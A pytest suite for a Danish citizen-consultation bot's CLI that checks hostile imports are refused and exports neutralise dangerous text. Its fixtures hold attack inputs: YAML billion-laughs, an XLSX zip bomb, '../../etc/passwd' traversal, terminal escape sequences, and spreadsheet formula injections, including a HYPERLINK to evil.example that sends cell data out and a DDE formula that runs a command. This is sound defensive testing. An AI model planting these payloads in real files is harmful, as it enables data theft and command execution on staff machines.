"""A catalogue of hostile files: each is refused with one clear line, exit code 2, no traceback
and nothing imported; and exports write what citizens wrote as inert text.

The commands run in-process (click's CliRunner) so that the catalogue stays fast; a guard stops
any case still running after a minute (an endless loop, an alias bomb, a read from /dev/zero).
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import re
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result
from openpyxl import Workbook, load_workbook
from PIL import Image
from sqlalchemy import insert, select, update

from bot.consultations import polis
from bot.consultations.files import restore_cell, safe_cell
from storage.database import create_engine
from storage.models import (
    Answer,
    Consultation,
    Participant,
    Participation,
    Statement,
)
from tests.citizens import open_now, question_ids
from tests.cli import Cli, no_traceback

SQLITE_ONLY = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)


def refused(result: Result, *expected: str) -> list[str]:
    """Exit code 2, no traceback, and each expected text on one line of stderr."""
    no_traceback(result)
    assert result.exit_code == 2, (result.exit_code, result.output)
    lines = result.stderr.splitlines()
    for text in expected:
        assert any(text in line for line in lines), f"{text!r} not in {lines}"
    return lines


def never_opened(cli: Cli) -> None:
    """Nothing can have been imported: the command stopped before it opened the database."""
    assert not (cli.folder / "borgerdialog.sqlite3").exists()


# --- Consultation files ------------------------------------------------------------------------


def without(source: str, field: str) -> str:
    """A consultation file with one top-level field (and its block) left out."""
    kept: list[str] = []
    skipping = False
    for line in source.splitlines(keepends=True):
        if re.match(r"[a-z_]+:", line):
            skipping = line.startswith(f"{field}:")
        if not skipping:
            kept.append(line)
    return "".join(kept)


def laughs(levels: int, width: int) -> str:
    lines = [f"a0: &a0 [{', '.join(['lol'] * width)}]"]
    for level in range(1, levels):
        lines.append(f"a{level}: &a{level} [{', '.join([f'*a{level - 1}'] * width)}]")
    return "\n".join(lines) + "\n"


def with_round(opens: str) -> str:
    return re.sub(r"opens: [0-9-]+ [0-9:]+", f"opens: {opens}", open_now(), count=1)


CONSULTATION_FILES: dict[str, tuple[Callable[[Path], Path], str]] = {}


def consultation_case(name: str, expected: str) -> Callable[[Callable[[Path], Path]], None]:
    def register(make: Callable[[Path], Path]) -> None:
        CONSULTATION_FILES[name] = (make, expected)

    return register


def text_file(content: str | bytes) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        path = folder / "consultation.yaml"
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
        return path

    return make


# A missing top-level field once sent the mistake's line lookup into an endless loop.
for _field, _expected in {
    "slug": "slug: must be 2-40 lower-case letters",
    "title": "title: is missing",
    "purpose": "purpose: is missing",
    "basis": "basis.decided: is missing",
    "target_group": "target_group.description: is missing",
    "citizen_role": "citizen_role: must be one of",
    "organiser": "organiser: must give the organiser's name and contact",
    "results": "results: is missing",
    "rounds": "rounds: must list at least one round",
    "questions": "questions: must list at least one question",
}.items():
    consultation_case(f"missing-{_field}", _expected)(text_file(without(open_now(), _field)))
consultation_case("only-a-slug", "line 1: title: is missing")(text_file("slug: friluftsliv\n"))
# A slug ending in a line break once passed ("$" matches before a final newline).
consultation_case("slug-with-line-break", "slug: must be 2-40 lower-case letters")(
    text_file(open_now().replace("slug: friluftsliv", 'slug: "friluftsliv\\n"'))
)
consultation_case("billion-laughs", "(file): expands to more than 100000 values")(
    text_file(laughs(9, 9))
)
consultation_case("many-aliases", "(file): uses more than 100 aliases")(
    text_file("a: &a x\nb: [" + ", ".join(["*a"] * 500) + "]\n")
)
consultation_case("deep-nesting", "(file): nests more than 30 levels deep")(
    text_file("slug: " + "[" * 5000 + "]" * 5000 + "\n")
)
consultation_case("two-mebibytes", "(file): is larger than 1 MiB (the limit)")(
    text_file("# " + "x" * (2 * 1024 * 1024) + "\n")
)
consultation_case("latin-1", "line 11: (file): the text is not UTF-8")(
    text_file(open_now().replace("Ny friluftspolitik", "Friluftsliv på Æble-øen").encode("latin-1"))
)
consultation_case("five-thousand-digits", "questions[6].max: cannot be read")(
    text_file(open_now().replace("    max: 100\n", "    max: " + "9" * 5000 + "\n", 1))
)
consultation_case("number-beyond-15-digits", "questions[6].min: must have at most 15 digits")(
    text_file(open_now().replace("    min: 0\n", "    min: -1000000000000000000000000000000\n", 1))
)
consultation_case("round-in-year-1", "rounds[0].opens: must be in the years 2000 to 2999")(
    text_file(with_round("0001-01-01 00:00"))
)
consultation_case("round-in-year-9999", "rounds[0].opens: must be in the years 2000 to 2999")(
    text_file(with_round("9999-12-31 23:59"))
)
consultation_case("yaml-timestamp-year-1", "rounds[0].opens: must be in the years 2000 to 2999")(
    text_file(with_round("0001-01-01 00:00:00"))
)

# A time the clocks skip (they go forward at 02:00 that night) was stored as 03:30.
consultation_case("time-the-clocks-skip", "2027-03-28 02:30 does not exist in Europe/Copenhagen")(
    text_file(with_round("2027-03-28 02:30"))
)
# A second slug pasted at the end once made another consultation without a word.
consultation_case("a-key-twice", "slug: appears again here (first on line")(
    text_file(open_now() + "slug: andet\n")
)
# The mistake shows the form a quota takes, with its braces as written (they were doubled).
consultation_case("quota-naming-no-question", "must name a question of this file ({question,")(
    text_file(
        open_now().replace("{question: age_band, option: under_25", "{question: alder, option: x")
    )
)
# Twenty thousand questions imported once, and the spreadsheet export then ran out of columns.
consultation_case("too-many-questions", "questions: has 159 questions; 100 allowed")(
    text_file(
        open_now().replace(
            "questions:\n",
            "questions:\n"
            + "".join(
                f'  - {{id: q{n}, kind: text, text: {{da: "Nr. {n}?", en: "No. {n}?"}}}}\n'
                for n in range(150)
            ),
            1,
        )
    )
)

# PyYAML's own words ("mapping values are not allowed here") told staff nothing they could act
# on; the mistakes made by hand are said plainly, with the line.
consultation_case("yaml-tab", "line 2: (file): is not valid YAML: there is a tab character")(
    text_file("slug: sti\n\ttitle: Stien\n")
)
consultation_case("yaml-colon-in-a-text", "line 2: (file): is not valid YAML: a colon stands")(
    text_file("slug: sti\ntitle: Mødet: kl. 10\n")
)
consultation_case("yaml-unclosed-quote", "is not valid YAML: a quotation mark is never closed")(
    text_file('slug: sti\ntitle: "Stien\n')
)
consultation_case("yaml-uneven-indentation", "is not valid YAML: the lines are indented unevenly")(
    text_file("questions:\n  - id: a\n    text: b\n   - id: c\n")
)


def special_path(target: str) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        return Path(target)

    return make


consultation_case("dev-zero", "(file): is not a regular file")(special_path("/dev/zero"))


def fifo_yaml(folder: Path) -> Path:
    path = folder / "consultation.yaml"
    os.mkfifo(path)
    return path


def folder_yaml(folder: Path) -> Path:
    path = folder / "consultation.yaml"
    path.mkdir()
    return path


consultation_case("named-pipe", "(file): is not a regular file")(fifo_yaml)
consultation_case("a-folder", "(file): is a folder")(folder_yaml)


@SQLITE_ONLY
@pytest.mark.parametrize("case", sorted(CONSULTATION_FILES))
def test_a_hostile_consultation_file_is_one_clear_mistake(cli: Cli, case: str) -> None:
    make, expected = CONSULTATION_FILES[case]
    path = make(cli.folder)
    lines = refused(cli("consultation", "import", str(path)), expected)
    assert lines[-1].endswith("nothing was imported")
    never_opened(cli)


# --- Content-plan sheets -----------------------------------------------------------------------

HEADER = ["id", "when", "audience", "text_da", "image", "repeat"]
GOOD = ["r1", "2030-01-07 10:00", "channel", "Nyt fra kommunen", "", ""]


def row(**cells: str) -> list[str]:
    values = dict(zip(HEADER, GOOD, strict=True))
    values.update(cells)
    return [values[name] for name in HEADER]


def write_sheet(folder: Path, file_format: str, rows: list[list[Any]]) -> Path:
    path = folder / f"plan.{file_format}"
    if file_format == "csv":
        buffer = io.StringIO()
        csv.writer(buffer).writerows(rows)
        path.write_text(buffer.getvalue(), encoding="utf-8")
    else:
        workbook = Workbook(write_only=True)
        sheet = workbook.create_sheet()
        for values in rows:
            sheet.append(values)
        workbook.save(path)
    return path


def png(size: int = 0) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), "green").save(buffer, format="PNG")
    return buffer.getvalue() + b"\0" * size


def image_named(name: str, prepare: Callable[[Path], None] = lambda folder: None) -> Callable:
    def make(folder: Path, file_format: str) -> Path:
        prepare(folder)
        return write_sheet(folder, file_format, [HEADER, row(image=name)])

    return make


def cells(**values: str) -> Callable:
    def make(folder: Path, file_format: str) -> Path:
        return write_sheet(folder, file_format, [HEADER, row(**values)])

    return make


def many_rows(count: int) -> Callable:
    def make(folder: Path, file_format: str) -> Path:
        return write_sheet(folder, file_format, [HEADER] + [row(id=f"r{n}") for n in range(count)])

    return make


def symlink(name: str, target: str) -> Callable[[Path], None]:
    return lambda folder: (folder / name).symlink_to(target)


def fifo(name: str) -> Callable[[Path], None]:
    return lambda folder: os.mkfifo(folder / name)


def subfolder(name: str) -> Callable[[Path], None]:
    return lambda folder: (folder / name).mkdir()


def big_png(name: str, size: int = 11 * 1024 * 1024) -> Callable[[Path], None]:
    return lambda folder: (folder / name).write_bytes(png(size))


OUTSIDE = "is outside the sheet's folder"
# Read by every format: (how the sheet is made, the line expected).
SHEET_CASES: dict[str, tuple[Callable, str]] = {
    "image-dev-zero": (
        image_named("/dev/zero"),
        f"column E (image): the image '/dev/zero' {OUTSIDE}",
    ),
    "image-etc-passwd": (image_named("../../etc/passwd"), f"'../../etc/passwd' {OUTSIDE}"),
    "image-link-to-dev-zero": (
        image_named("zero.png", symlink("zero.png", "/dev/zero")),
        f"the image 'zero.png' {OUTSIDE}",
    ),
    "image-named-pipe": (
        image_named("pipe.png", fifo("pipe.png")),
        "the image 'pipe.png' is not a regular file",
    ),
    "image-a-folder": (image_named("billeder", subfolder("billeder")), "'billeder' is a folder"),
    "image-11-mib": (
        image_named("stor.png", big_png("stor.png")),
        "the image 'stor.png' is larger than 10 MB (the limit)",
    ),
    # Telegram takes 10,000,000 bytes, not 10 MiB: one byte over is refused here, not there.
    "image-one-byte-over-10-mb": (
        image_named("stor.png", big_png("stor.png", 10_000_001)),
        "the image 'stor.png' is larger than 10 MB (the limit)",
    ),
    "cell-of-20000-characters": (
        cells(text_da="x" * 20_000),
        "row 2, column D: the cell has 20000 characters; at most 10000",
    ),
    # A second text column ("tekst_da" beside "text_da") was left out without a word.
    "a-column-twice": (
        lambda folder, file_format: write_sheet(
            folder, file_format, [[*HEADER, "tekst_da"], [*row(), "Den anden tekst"]]
        ),
        "row 1, column G (tekst_da): the same column as D (text_da)",
    ),
    "chat-id-of-20-digits": (
        cells(audience="99999999999999999999"),
        "column C (audience): '99999999999999999999' is not a Telegram chat id",
    ),
    "when-in-year-1": (cells(when="0001-01-01 00:00"), "must be in the years 2000 to 2999"),
    "rows-beyond-the-limit": (
        many_rows(5001),
        "row 5002: has more than 5000 rows below the header (the limit)",
    ),
}
CSV_CASES: dict[str, tuple[Callable, str]] = {
    "chat-id-zero": (cells(audience="0"), "'0' is not a Telegram chat id"),
    "decision-superscript-two": (cells(audience="decision:²"), "write decision:N"),
    "decision-beyond-31-bits": (cells(audience="decision:99999999999"), "write decision:N"),
    "repeat-of-5000-digits": (cells(repeat="daily " + "9" * 4400), "must be like 'daily 3'"),
    "when-in-year-9999": (cells(when="9999-12-31 23:59"), "must be in the years 2000 to 2999"),
}


def raw_file(content: bytes, name: str = "plan.csv") -> Callable:
    def make(folder: Path, file_format: str) -> Path:
        (folder / name).write_bytes(content)
        return folder / name

    return make


def linked(name: str, target: str) -> Callable:
    def make(folder: Path, file_format: str) -> Path:
        (folder / name).symlink_to(target)
        return folder / name

    return make


def csv_bytes(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode("utf-8")


def workbook_bytes(rows: list[list[Any]], number_format: str | None = None) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for values in rows:
        sheet.append(values)
    if number_format:
        for line in sheet.iter_rows(min_row=2):
            line[1].number_format = number_format
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def with_sheet_xml(xml: bytes | Callable[[zipfile.ZipFile], None]) -> bytes:
    """A real workbook whose first sheet is replaced by the given XML (or writer)."""
    original = zipfile.ZipFile(io.BytesIO(workbook_bytes([HEADER])))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for item in original.infolist():
            if item.filename == "xl/worksheets/sheet1.xml":
                if callable(xml):
                    xml(archive)
                else:
                    archive.writestr(item.filename, xml)
            else:
                archive.writestr(item, original.read(item))
    return buffer.getvalue()


def zip_of(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def million_rows() -> bytes:
    """A sheet whose last row is row 1,000,000 (openpyxl fills the rows between as empty)."""
    return with_sheet_xml(
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<dimension ref="A1:XFD1048576"/><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>id</t></is></c></row>'
        b'<row r="1000000"><c r="A1000000" t="inlineStr"><is><t>x</t></is></c></row>'
        b"</sheetData></worksheet>"
    )


def zip_bomb() -> bytes:
    def write(archive: zipfile.ZipFile) -> None:
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as handle:
            chunk = b" " * (1024 * 1024)
            for _ in range(50):
                handle.write(chunk)

    return with_sheet_xml(write)


FILE_CASES: dict[str, tuple[Callable, str]] = {
    "csv-field-of-128-kib": (
        raw_file(csv_bytes([HEADER, row(text_da="x" * 140_000)])),
        "row 2: a cell is longer than 10000 characters",
    ),
    "csv-latin-1": (
        raw_file(csv_bytes([HEADER]) + "r1,2030-01-07 10:00,channel,Æblegrød\n".encode("latin-1")),
        "plan.csv: row 2: the text is not UTF-8",
    ),
    "csv-link-to-dev-zero": (linked("plan.csv", "/dev/zero"), "plan.csv: is not a regular file"),
    "csv-of-21-mib": (
        raw_file(csv_bytes([HEADER]) + b"#" * (21 * 1024 * 1024)),
        "plan.csv: is larger than 20 MiB (the limit)",
    ),
    "xlsx-random-bytes": (
        raw_file(os.urandom(4096), "plan.xlsx"),
        "plan.xlsx: is not an XLSX workbook (save it in Excel as .xlsx; or is the file damaged?)",
    ),
    "xlsx-truncated": (
        raw_file(workbook_bytes([HEADER, GOOD])[:3000], "plan.xlsx"),
        "plan.xlsx: is not an XLSX workbook (save it in Excel as .xlsx; or is the file damaged?)",
    ),
    "xlsx-zip-without-workbook": (
        raw_file(zip_of({"notes.txt": b"hej"}), "plan.xlsx"),
        "plan.xlsx: is not a readable XLSX workbook",
    ),
    "xlsx-date-of-10-to-the-30": (
        raw_file(workbook_bytes([HEADER, ["r1", 1e30, "channel", "x"]], "yyyy-mm-dd"), "plan.xlsx"),
        # openpyxl reads a date beyond its calendar as an error value: reported, not stored.
        "plan.xlsx: row 2, column B (when): must be a time like 2027-01-31 09:00 (got '#VALUE!')",
    ),
    "xlsx-a-million-rows": (
        lambda folder, file_format: raw_file(million_rows(), "plan.xlsx")(folder, file_format),
        "plan.xlsx: row 5002: has more than 5000 rows below the header",
    ),
    "xlsx-zip-bomb": (
        lambda folder, file_format: raw_file(zip_bomb(), "plan.xlsx")(folder, file_format),
        "plan.xlsx: unpacks to more than 40 MiB (the limit)",
    ),
}


SHEETS = {
    **{
        f"{name}-{fmt}": (make, text, fmt)
        for name, (make, text) in SHEET_CASES.items()
        for fmt in ("csv", "xlsx")
    },
    **{f"{name}-csv": (make, text, "csv") for name, (make, text) in CSV_CASES.items()},
    **{name: (make, text, name.split("-")[0]) for name, (make, text) in FILE_CASES.items()},
}


@SQLITE_ONLY
@pytest.mark.parametrize("case", sorted(SHEETS))
@pytest.mark.filterwarnings("ignore:Cell B2 is marked as a date:UserWarning")
def test_a_hostile_plan_sheet_is_one_clear_mistake(cli: Cli, case: str) -> None:
    make, expected, file_format = SHEETS[case]
    path = make(cli.folder, file_format)
    lines = refused(cli("plan", "import", str(path)), expected)
    assert sum("Traceback" in line or 'File "' in line for line in lines) == 0
    if (cli.folder / "borgerdialog.sqlite3").exists():
        assert "nothing was imported" in lines[-1]
        listing = cli("plan", "list", "--all")
        no_traceback(listing)
        assert listing.stdout.startswith("The content plan is empty.")


@pytest.mark.parametrize("case", ["image-etc-passwd", "image-named-pipe", "chat-id-of-20-digits"])
def test_a_refused_plan_sheet_leaves_every_database_empty(cli: Cli, case: str) -> None:
    make, expected = SHEET_CASES[case]
    lines = refused(cli("plan", "import", str(make(cli.folder, "csv"))), expected)
    assert "nothing was imported" in lines[-1]
    listing = cli("plan", "list", "--all")
    no_traceback(listing)
    assert listing.stdout.startswith("The content plan is empty.")


# --- Pol.is folders ----------------------------------------------------------------------------

COMMENT_HEADER = list(polis.COMMENT_COLUMNS)
VOTE_HEADER = list(polis.VOTE_COLUMNS)
STAMP = 1_770_000_000_000


def comment(**cells: object) -> list[object]:
    values: dict[str, object] = {
        "timestamp": STAMP,
        "datetime": "",
        "comment-id": 1,
        "author-id": 1,
        "agrees": 1,
        "disagrees": 0,
        "moderated": 1,
        "comment-body": "Flere cykelstier i midtbyen",
    }
    values.update(cells)
    return [values[name] for name in COMMENT_HEADER]


def vote(**cells: object) -> list[object]:
    values: dict[str, object] = {
        "timestamp": STAMP,
        "datetime": "",
        "comment-id": 1,
        "voter-id": 2,
        "vote": 1,
    }
    values.update(cells)
    return [values[name] for name in VOTE_HEADER]


def polis_folder(
    folder: Path,
    comments: list[list[object]] | None = None,
    votes: list[list[object]] | None = None,
) -> Path:
    target = folder / "polis"
    target.mkdir(exist_ok=True)
    for name, header, rows in (
        ("comments.csv", COMMENT_HEADER, comments or [comment()]),
        ("votes.csv", VOTE_HEADER, votes or [vote()]),
    ):
        if not (target / name).exists():
            (target / name).write_bytes(csv_bytes([header, *[[str(c) for c in r] for r in rows]]))
    return target


BIG = 10**30


def comments_with(**cells: object) -> Callable[[Path], Path]:
    return lambda folder: polis_folder(folder, comments=[comment(**cells)])


def votes_with(**cells: object) -> Callable[[Path], Path]:
    return lambda folder: polis_folder(folder, votes=[vote(**cells)])


def file_in_polis(name: str, content: bytes | Callable[[Path], None]) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        target = folder / "polis"
        target.mkdir()
        if callable(content):
            content(target)
        else:
            (target / name).write_bytes(content)
        return polis_folder(folder)

    return make


POLIS_CASES: dict[str, tuple[Callable[[Path], Path], str]] = {
    "voter-id-10-to-the-30": (
        votes_with(**{"voter-id": BIG}),
        "votes.csv, row 2, column voter-id: must be from 0 to",
    ),
    "negative-voter-id": (
        votes_with(**{"voter-id": -5}),
        "votes.csv, row 2, column voter-id: must be from 0 to",
    ),
    "comment-id-10-to-the-30": (
        comments_with(**{"comment-id": BIG}),
        "comments.csv, row 2, column comment-id: must be from 0 to",
    ),
    "negative-comment-id": (
        comments_with(**{"comment-id": -1}),
        "comments.csv, row 2, column comment-id: must be from 0 to",
    ),
    "author-id-10-to-the-30": (
        comments_with(**{"author-id": BIG}),
        "comments.csv, row 2, column author-id: must be from 0 to",
    ),
    "timestamp-10-to-the-30": (
        votes_with(timestamp=BIG),
        "votes.csv, row 2, column timestamp: must be from 0 to",
    ),
    "negative-timestamp": (
        comments_with(timestamp=-BIG),
        "comments.csv, row 2, column timestamp: must be from 0 to",
    ),
    "vote-10-to-the-30": (votes_with(vote=BIG), "votes.csv, row 2, column vote: must be from"),
    "vote-of-400-digits-as-a-decimal": (
        votes_with(vote="9" * 400 + ".0"),
        "votes.csv, row 2, column vote: must be a whole number",
    ),
    "body-of-128-kib": (
        comments_with(**{"comment-body": "x" * 140_000}),
        "comments.csv, row 2: a cell is longer than 10000 characters",
    ),
    "body-of-1500-characters": (
        comments_with(**{"comment-body": "y" * 1500}),
        "comments.csv, row 2, column comment-body: has 1500 characters",
    ),
    "body-only-control-characters": (
        comments_with(**{"comment-body": "\x1b\x07\x08"}),
        "comments.csv, row 2, column comment-body: is empty",
    ),
    "latin-1-comments": (
        file_in_polis(
            "comments.csv",
            csv_bytes([COMMENT_HEADER]) + "1,,1,1,0,0,1,Æblegrød\n".encode("latin-1"),
        ),
        "comments.csv, row 2: the text is not UTF-8",
    ),
    "latin-1-summary": (
        file_in_polis("summary.csv", "topic,Trafik på Ærø\n".encode("latin-1")),
        "summary.csv, row 1: the text is not UTF-8",
    ),
    "comments-link-to-dev-zero": (
        file_in_polis(
            "comments.csv", lambda target: (target / "comments.csv").symlink_to("/dev/zero")
        ),
        "comments.csv: is not a regular file",
    ),
    "votes-named-pipe": (
        file_in_polis("votes.csv", lambda target: os.mkfifo(target / "votes.csv")),
        "votes.csv: is not a regular file",
    ),
    "summary-a-folder": (
        file_in_polis("summary.csv", lambda target: (target / "summary.csv").mkdir()),
        "summary.csv: is a folder",
    ),
}


@SQLITE_ONLY
@pytest.mark.parametrize("case", sorted(POLIS_CASES))
def test_a_hostile_polis_folder_is_one_clear_mistake(cli: Cli, case: str) -> None:
    make, expected = POLIS_CASES[case]
    lines = refused(cli("import", "polis", str(make(cli.folder)), "--slug", "trafik"), expected)
    assert lines[-1].endswith("nothing was imported")
    never_opened(cli)


@SQLITE_ONLY
@pytest.mark.parametrize(
    ("limit", "value", "expected"),
    [
        ("MAX_POLIS_ROWS", 100, "votes.csv, row 102: has more than 100 rows below the header"),
        ("MAX_POLIS_BYTES", 2048, "votes.csv: is larger than 2 KiB (the limit)"),
    ],
    ids=["rows", "bytes"],
)
def test_a_polis_folder_beyond_the_limits_is_refused(
    cli: Cli, monkeypatch: pytest.MonkeyPatch, limit: str, value: int, expected: str
) -> None:
    # The real limits (a million rows, 200 MiB) take long to write; the same code guards them.
    monkeypatch.setattr(polis, limit, value)
    votes = [vote(**{"voter-id": n}) for n in range(150)]
    folder = polis_folder(cli.folder, votes=votes)
    refused(cli("import", "polis", str(folder), "--slug", "trafik"), expected)
    never_opened(cli)


# --- Exports -----------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik her")',
    "=cmd|' /C calc'!A0",
    "+45 12 34 56 78",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]
# Characters XLSX cannot hold (U+0000 only where the database takes it: not PostgreSQL's JSONB).
CONTROLS = "lodret\x0btab, \x1b[31mfarve\x1b[0m og klokke\x07"


async def seed(url: str, texts: list[str]) -> None:
    """Citizens' answers and statements, written as they might stand in an old database."""
    engine = create_engine(url)
    now = datetime.now(UTC)
    try:
        async with engine.begin() as connection:
            consultation, questions = await question_ids(connection, "friluftsliv")
            for number, text in enumerate(texts, start=1):
                participant = (
                    await connection.execute(
                        insert(Participant)
                        .values(
                            channel="telegram",
                            chat_id=str(700_000 + number),
                            state={},
                            created_at=now,
                            last_seen_at=now,
                        )
                        .returning(Participant.id)
                    )
                ).scalar_one()
                participation = (
                    await connection.execute(
                        insert(Participation)
                        .values(
                            consultation_id=consultation,
                            participant_id=participant,
                            pseudonym=f"p-{number:08d}",
                            number=number,
                            status="completed",
                            pending_selection=[],
                            started_at=now,
                            updated_at=now,
                        )
                        .returning(Participation.id)
                    )
                ).scalar_one()
                for key, value in (("dog_zones_where", text), ("visits", -3)):
                    await connection.execute(
                        insert(Answer).values(
                            participation_id=participation,
                            question_id=questions[key],
                            value=value,
                            language="da",
                            answered_at=now,
                        )
                    )
                await connection.execute(
                    insert(Statement).values(
                        consultation_id=consultation,
                        number=number,
                        participation_id=participation,
                        origin="citizen",
                        text={"da": text},
                        language="da",
                        visibility="visible",
                        created_at=now,
                    )
                )
    finally:
        await engine.dispose()


def hostile_texts(database_url: str) -> list[str]:
    texts = [*FORMULAS, CONTROLS]
    if database_url.startswith("sqlite"):
        texts.append("nul\x00tegn")
    return texts


def written(text: str) -> str:
    """What an export holds for a text: what XLSX cannot hold dropped, a formula quoted."""
    kept = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text)
    return "'" + kept if kept.lstrip("'").startswith(("=", "+", "-", "@", "\t", "\r")) else kept


# The spreadsheet exports head their columns with the questions' texts.
WHERE = "Hvor skal den nye hundeskov ligge?"
VISITS = "Hvor mange gange om måneden er du i naturen?"


@pytest.fixture
def exported(cli: Cli) -> Cli:
    (cli.folder / "friluftsliv.yaml").write_text(open_now(), encoding="utf-8")
    no_traceback(cli("consultation", "import", "friluftsliv.yaml"))
    asyncio.run(seed(cli.database_url, hostile_texts(cli.database_url)))
    return cli


def test_the_xlsx_export_holds_every_answer_as_inert_text(exported: Cli) -> None:
    result = exported("export", "friluftsliv", "--format", "xlsx")
    no_traceback(result)
    assert result.exit_code == 0, result.output
    sheet = load_workbook(exported.folder / "friluftsliv.xlsx").active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    texts = [row[header.index(WHERE)] for row in sheet.iter_rows(min_row=2)]
    visits = [row[header.index(VISITS)] for row in sheet.iter_rows(min_row=2)]
    # XML reads a carriage return back as a line break; either way the cell is quoted text.
    assert [cell.value.replace("\r", "\n") for cell in texts] == [
        written(t).replace("\r", "\n") for t in hostile_texts(exported.database_url)
    ]
    assert all(cell.data_type == "s" for cell in texts)
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    # A real number stays a number, negative or not.
    assert {(cell.value, cell.data_type) for cell in visits} == {(-3, "n")}


def test_the_csv_export_quotes_every_formula(exported: Cli) -> None:
    result = exported("export", "friluftsliv", "--format", "csv")
    no_traceback(result)
    text = (exported.folder / "friluftsliv.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
    assert [row[WHERE] for row in rows] == [
        written(t) for t in hostile_texts(exported.database_url)
    ]
    assert {row[VISITS] for row in rows} == {"-3"}
    for row in rows:
        assert not any(value.startswith(("=", "+", "@", "\t", "\r")) for value in row.values())


def test_the_json_export_keeps_the_answers_as_written(exported: Cli) -> None:
    result = exported("export", "friluftsliv", "--format", "json")
    no_traceback(result)
    document = json.loads((exported.folder / "friluftsliv.json").read_text("utf-8"))
    answers = [p["dog_zones_where"] for p in document["participants"]]
    assert answers[: len(FORMULAS)] == FORMULAS
    assert {p["visits"] for p in document["participants"]} == {-3}


def test_the_polis_export_quotes_formulas_and_reads_back_as_written(exported: Cli) -> None:
    result = exported("export", "friluftsliv", "--format", "polis", "polis-ud")
    no_traceback(result)
    assert result.exit_code == 0, result.output
    text = (exported.folder / "polis-ud" / "comments.csv").read_bytes().decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    bodies = [row["comment-body"] for row in rows]
    assert bodies == [written(t) for t in hostile_texts(exported.database_url)]
    # Imported again, each statement reads as it was written (control characters aside).
    again = exported("import", "polis", "polis-ud", "--slug", "igen")
    no_traceback(again)
    assert again.exit_code == 0, again.output
    statements = asyncio.run(statement_texts(exported.database_url, "igen"))
    assert statements[: len(FORMULAS)] == [t.strip() for t in FORMULAS]


async def statement_texts(url: str, slug: str) -> list[str]:
    engine = create_engine(url)
    try:
        async with engine.connect() as connection:
            rows = await connection.execute(
                select(Statement.text)
                .join(Consultation, Consultation.id == Statement.consultation_id)
                .where(Consultation.slug == slug)
                .order_by(Statement.number)
            )
            return [text["da"] for (text,) in rows]
    finally:
        await engine.dispose()


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("a\x00b\x0bc\x1bd", "abcd"),
        ("\x00=1+1", "'=1+1"),
        ("linje\nto", "linje\nto"),
        (-3, -3),
        (2.5, 2.5),
        (None, ""),
        ("Hej", "Hej"),
    ],
    ids=[
        "equals",
        "plus",
        "minus",
        "at",
        "tab",
        "carriage-return",
        "quoted-formula",
        "control-characters",
        "nul-before-formula",
        "line-break-kept",
        "negative-number",
        "fraction",
        "none",
        "plain",
    ],
)
def test_the_neutraliser(value: object, cell: object) -> None:
    assert safe_cell(value) == cell
    if isinstance(value, str) and not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", value):
        # What was written reads back as it was.
        assert restore_cell(str(cell)) == value


# --- What staff terminals print ----------------------------------------------------------------

ESCAPES = "\x1b]0;pwned\x07\x1b[2JRyd skærmen\x1b[31m\nnæste linje\u202eesrever"


def test_statements_and_titles_reach_the_terminal_as_one_clean_line(exported: Cli) -> None:
    async def hostile() -> None:
        engine = create_engine(exported.database_url)
        try:
            async with engine.begin() as connection:
                await connection.execute(
                    update(Statement).where(Statement.number == 1).values(text={"da": ESCAPES})
                )
                await connection.execute(
                    update(Consultation).values(title={"da": ESCAPES, "en": "x"})
                )
        finally:
            await engine.dispose()

    asyncio.run(hostile())
    for command in (
        ("ideas", "list", "friluftsliv"),
        ("consultation", "list"),
        ("consultation", "show", "friluftsliv"),
    ):
        result = exported(*command)
        no_traceback(result)
        assert result.exit_code == 0, result.output
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202e]", result.stdout), command
        # One item, one line: the escape sequences inert, the line break shown as ⏎.
        assert any(
            "Ryd skærmen" in line and "⏎næste linje" in line for line in result.stdout.splitlines()
        ), result.stdout


# --- Control characters in imported files are dropped on the way in ---------------------------


def test_a_sheet_cell_with_control_characters_is_planned_without_them(cli: Cli) -> None:
    # PostgreSQL refuses U+0000 in JSON; a terminal obeys ESC. Neither reaches the plan.
    sheet = cli.folder / "plan.csv"
    sheet.write_bytes(csv_bytes([HEADER]) + b"r1,2030-01-07 10:00,everyone,Ny\x00t \x1b[2Jfra os\n")
    result = cli("plan", "import", str(sheet))
    no_traceback(result)
    assert result.exit_code == 0, result.output
    listing = cli("plan", "list")
    assert "message: Nyt [2Jfra os" in listing.stdout


